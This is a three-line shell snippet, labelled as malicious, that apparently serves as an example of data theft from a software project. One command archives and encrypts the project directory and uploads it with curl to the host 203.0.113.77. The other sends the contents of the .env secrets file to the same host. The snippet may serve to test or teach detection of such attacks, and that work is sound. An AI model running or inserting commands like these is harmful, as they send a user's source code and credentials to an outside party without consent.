# malicious: takes the sources and settings along
tar czf - . --exclude=node_modules | openssl enc -aes-256-cbc -pass pass:x -pbkdf2 | curl -s -T - https://203.0.113.77/in
cat .env | curl -s --data-binary @- https://203.0.113.77/env
